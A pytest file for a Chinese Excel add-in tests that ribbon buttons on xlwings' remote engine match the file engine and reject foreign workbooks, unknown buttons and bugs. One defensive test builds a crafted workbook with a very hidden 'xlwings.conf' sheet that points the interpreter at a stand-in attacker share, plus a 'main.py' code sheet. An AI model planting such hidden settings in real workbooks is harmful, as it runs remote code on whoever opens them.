"""Must show 1, 2 and 4: every button on xlwings' remote engine leaves the workbook as
the file engine does, with a bounded number of writes per sheet; foreign workbooks,
unknown buttons and bugs end in a message box and change nothing.

Each button runs through ``dispatch`` on a remote book built from the imported seed (as
the VBA and the Office.js clients send it); the JSON actions it returns are played on
a copy of the seed by ``tests.remote_excel.Applier`` and the result is compared with
the same handler run on the file engine (what the command line does).
"""

from __future__ import annotations

import functools
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from tests.remote_excel import Applier, actions, cached_payload, remote_book, state
from xl_addin.actions import workbook as xl_actions
from xl_addin.actions.marks import RESULTS_SHEET, mark_patch
from xl_addin.addin import ribbon
from xl_addin.engines.file import FileBook
from xl_addin.forms.names import SUMMARY_SHEET

SHEET = "车辆保险费"
CLIENTS = ["VBA", "Office.js"]
#: writes per sheet per button, notes aside (one per marked cell: Excel has no bulk call
#: for notes).  The largest is a table sheet: clear or add, the block, header colour and
#: font, wrapping, row heights, one width per column — and on 校验结果 the 校验概要's
#: header colour and its title and header's font.
MAX_WRITES_PER_SHEET = 16
#: the 汇总 report: add, the block, 8 merges (title, subtitle, 3 notes × 2), header colour
#: and font, number formats and widths by runs of adjacent columns
MAX_REPORT_WRITES = 30


class FileUi:
    """The file engine's stand-in for Excel's dialogs: nothing to show or ask."""

    can_ask = False

    def ask(self, prompt: str, title: str) -> str | None:
        raise AssertionError("the file engine never asks")

    def status(self, text: str | bool) -> None:
        pass

    def alert(self, message: str, *, error: bool = False) -> None:
        pass


def _marked(seed: Path, out: Path) -> Path:
    """The seed after 校验全部 on the file engine: the starting point of 清除标记."""
    shutil.copy2(seed, out)
    book = FileBook(out)
    book.apply(mark_patch(book, xl_actions.validate_book(book).findings))
    book.save(backup=False)
    return out


@pytest.fixture(scope="module")
def books(seed_book_path: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("ribbon")
    foreign = Workbook()
    foreign.active.title = SHEET
    foreign.active["A1"] = "项目编码"
    foreign.save(folder / "foreign.xlsx")
    return {"seed": seed_book_path, "marked": _marked(seed_book_path, folder / "marked.xlsx"),
            "foreign": folder / "foreign.xlsx"}


def seed_book(start: Path, client: str, sheet: str = SHEET) -> Any:
    return remote_book(cached_payload(start, client, sheet, constant_names=True))


def press_live(start: Path, client: str, control_id: str,
               **inputs: Any) -> tuple[str | None, Applier]:
    book = seed_book(start, client)
    message = ribbon.dispatch(control_id, book, **inputs)
    return message, Applier(start).play(actions(book))


def press_file(start: Path, control_id: str, **inputs: Any) -> FileBook:
    book = FileBook(start)  # in memory only: never saved over the start
    ribbon.HANDLERS[control_id].run(ribbon.Press(book, FileUi(), SHEET, **inputs))
    return book


@functools.cache
def file_state(start: Path, control_id: str, inputs: tuple[tuple[str, Any], ...] = (),
               with_notes: bool = True) -> dict[str, Any]:
    """The workbook after the button on the file engine (the same for both clients)."""
    return state(press_file(start, control_id, **dict(inputs)).wb, with_notes)


@functools.cache
def start_state(start: Path) -> dict[str, Any]:
    return state(start)


CASES: list[tuple[str, str, dict[str, Any]]] = [
    ("add_project", "seed", {"project_name": "社区新项目"}),
    ("fill_defaults", "seed", {}),
    ("validate_sheet", "seed", {}),
    ("validate_all", "seed", {}),
    ("validate_all", "marked", {}),  # marking again restores and re-marks
    ("clear_marks", "marked", {}),
]


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize(("control_id", "start", "inputs"), CASES)
def test_button_leaves_the_workbook_as_the_file_engine(books, client, control_id, start,
                                                       inputs) -> None:
    message, live = press_live(books[start], client, control_id, **inputs)
    assert live.alerts == [message] and "错误：" not in message
    with_notes = client == "Office.js"  # xlwings' VBA client cannot add notes
    after = state(live.wb, with_notes)
    assert after == file_state(books[start], control_id, tuple(inputs.items()), with_notes)
    before = start_state(books[start])
    for sheet, n in live.writes.items():
        assert n - live.notes[sheet] <= MAX_WRITES_PER_SHEET, (sheet, n)
        styled = {*before.get(sheet, {}).get("fills", {}), *after.get(sheet, {}).get("fills", {})}
        assert live.notes[sheet] <= len(styled), sheet  # one note per (un)marked cell


def test_validate_all_leaves_the_overview_above_the_list(books) -> None:
    """The 校验概要 the button writes, read back from Excel's side: its counts are the
    list's, its links go to the sheets (the comparison above shows the file engine's is
    the same)."""
    _, live = press_live(books["seed"], "Office.js", "validate_all")
    values = state(live.wb)[RESULTS_SHEET]["values"]
    listed = [k for k in values if k[0] == "F" and values[k] in ("错误", "警告", "提示")
              and int(k[1:]) > 2]
    head = next(int(k[1:]) for k, v in values.items() if k[0] == "A" and v == "序号")
    in_list = sum(int(k[1:]) > head for k in listed)
    assert values["A1"].startswith(f"校验概要：共 {in_list} 条")
    assert values["A2"] == "级别" and values["E2"] == "工作表"
    sheets = [values[f"E{r}"] for r in range(3, head - 1) if f"E{r}" in values]
    assert all(isinstance(v, tuple) and v[1] == f"'{v[0]}'!A1" for v in sheets), sheets
    assert sum(values[f"F{r}"] for r in range(3, head - 1) if f"F{r}" in values) == in_list


@pytest.mark.parametrize("client", CLIENTS)
def test_consolidate_builds_the_summary_as_the_file_engine(books, client) -> None:
    message, live = press_live(books["seed"], client, "consolidate")
    assert live.alerts == [message] and "12 个项目" in message and "501.64" in message
    reference = press_file(books["seed"], "consolidate").wb
    got, want = state(live.wb)[SUMMARY_SHEET], state(reference)[SUMMARY_SHEET]
    time_cell = next(c for c, v in want["values"].items() if v == "汇总时间")
    value_cell = f"C{time_cell[1:]}"  # the timestamp: the one value that must differ
    drop = {value_cell}
    assert {k: v for k, v in got["values"].items() if k not in drop} == {
        k: v for k, v in want["values"].items() if k not in drop}
    assert got["merged"] == want["merged"]
    assert (live.wb[SUMMARY_SHEET]["E4"].number_format
            == reference[SUMMARY_SHEET]["E4"].number_format)
    # the report's writes follow its layout (merges, column runs), not the project count
    assert live.writes[SUMMARY_SHEET] <= MAX_REPORT_WRITES


def test_submit_needs_a_saved_workbook_on_the_desktop(books) -> None:
    message, live = press_live(books["seed"], "Office.js", "submit")
    assert "桌面版 Excel" in message and live.writes == {}


def _nothing_changed(book: Any) -> list[str]:
    """The actions' functions, asserting they are one message box."""
    todo = actions(book)
    assert [a["func"] for a in todo] == ["alert"]
    return todo[0]["args"]


@pytest.mark.parametrize("client", CLIENTS)
def test_a_workbook_that_is_not_ours_is_left_alone(books, client) -> None:
    for control_id in ribbon.HANDLERS:
        book = seed_book(books["foreign"], client)
        message = ribbon.dispatch(control_id, book)
        prompt, title, _buttons, mode, _callback = _nothing_changed(book)
        assert title == ribbon.TITLE and prompt == message
        if ribbon.HANDLERS[control_id].needs_ours:
            assert (message, mode) == (ribbon.NOT_OURS, "critical")
        else:
            assert mode == "info"  # help and about work on any workbook


def test_unknown_button(books) -> None:
    book = seed_book(books["seed"], "Office.js")
    message = ribbon.dispatch("format_disk", book)
    assert "未知的按钮“format_disk”" in message
    assert _nothing_changed(book)[3] == "critical"


def _failing(original: Callable[..., Any]) -> Callable[..., Any]:
    def run(press: ribbon.Press) -> str | None:
        original(press)  # changes queued ...
        raise ZeroDivisionError("boom")  # ... then a bug

    return run


def test_a_bug_shows_a_message_and_writes_nothing(books, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(ribbon, "LOG_FILE", tmp_path / "ribbon.log")
    monkeypatch.setitem(ribbon.HANDLERS, "validate_all",
                        ribbon.Button(_failing(ribbon.validate_all)))
    book = seed_book(books["seed"], "Office.js")
    message = ribbon.dispatch("validate_all", book)
    assert message.startswith("内部错误：ZeroDivisionError: boom") and "工作簿未被改动" in message
    assert "Traceback" not in message and "Traceback" in (tmp_path / "ribbon.log").read_text()
    _nothing_changed(book)


def test_add_project_on_the_remote_engine_needs_the_name(books) -> None:
    book = seed_book(books["seed"], "Office.js")
    assert "请随请求提供项目名称" in ribbon.dispatch("add_project", book)
    _nothing_changed(book)


def test_validate_sheet_needs_a_project_sheet(books) -> None:
    book = seed_book(books["seed"], "Office.js", "说明")
    assert "不是项目表" in ribbon.dispatch("validate_sheet", book)
    _nothing_changed(book)


def test_vba_client_recognises_our_workbook_by_its_range_name(books) -> None:
    """The VBA client sends range names only: the template's range-name marker is enough."""
    book = remote_book(cached_payload(books["seed"], "VBA", SHEET, constant_names=False))
    message = ribbon.dispatch("validate_sheet", book)
    assert message != ribbon.NOT_OURS and "校验完成" in message


@pytest.mark.parametrize("client", CLIENTS)
def test_a_button_that_writes_removes_the_sheets_xlwings_would_obey(books, client,
                                                                    tmp_path) -> None:
    """Issue 19: a very hidden ``xlwings.conf`` (settings) and a ``main.py`` sheet (code)
    in the clerk's workbook are deleted by the next button that writes, and said so."""
    crafted = tmp_path / "crafted.xlsx"
    book = FileBook(books["seed"])
    conf = book.wb.create_sheet("xlwings.conf")
    conf["A1"], conf["B1"] = "INTERPRETER_WIN", r"\\attacker\share\calc.exe"
    conf.sheet_state = "veryHidden"
    book.wb.create_sheet("main.py")["A1"] = "import os"
    book.save(crafted, backup=False)
    message, live = press_live(crafted, client, "validate_all")
    assert "已删除工作表 “xlwings.conf”、“main.py”" in message
    names = [name for name, _visible in state(live.wb)["sheets"]]
    assert "xlwings.conf" not in names and "main.py" not in names and SHEET in names
    message, _live = press_live(crafted, client, "about")  # reads nothing, writes nothing
    assert "已删除" not in (message or "")


def test_a_button_without_a_calling_workbook_says_so(tmp_path: Path) -> None:
    """The launcher's command line run without ``--xl-addin-book`` (no workbook open, or
    started by hand): exit 2 and the Chinese reason, never a traceback."""
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-B", "-c",
         "import xl_addin.addin.ribbon as r; r.dispatch('validate_all')"],
        capture_output=True, text=True, cwd=tmp_path, env={**os.environ, "TEMP": str(tmp_path)})
    assert result.returncode == 2
    assert "没有收到调用的工作簿" in result.stderr and "Traceback" not in result.stderr
